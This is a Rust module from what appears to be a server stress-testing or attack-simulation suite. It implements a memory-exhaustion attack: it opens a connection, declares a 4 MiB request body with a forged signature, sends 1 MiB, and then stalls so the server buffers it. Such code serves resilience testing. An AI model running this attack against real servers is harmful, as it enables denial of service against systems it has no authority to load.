//! Sends much of a large body at once and then nothing, so that the server holds it in memory.

use std::{io, time::Duration};

use super::{Target, forgery};
use crate::{delivery::delivery_head, wire::Connection};

/// As much as the layer takes by default.
const LENGTH: usize = 4 * 1024 * 1024;
const SENT: usize = 1024 * 1024;

pub(super) async fn attack(target: &Target) -> io::Result<()> {
    let (signature, _) = forgery(0)?;
    let mut request = delivery_head(Some(LENGTH), Some(&signature));
    request.resize(request.len() + SENT, b'x');
    target.bandwidth.take(SENT).await;
    let mut connection = Connection::try_open(target.address).await?;
    target.connected();
    target.requested();
    let answer = connection.try_exchange(&[&request], Duration::ZERO).await;
    target.ended(&answer);
    answer.map(drop)
}
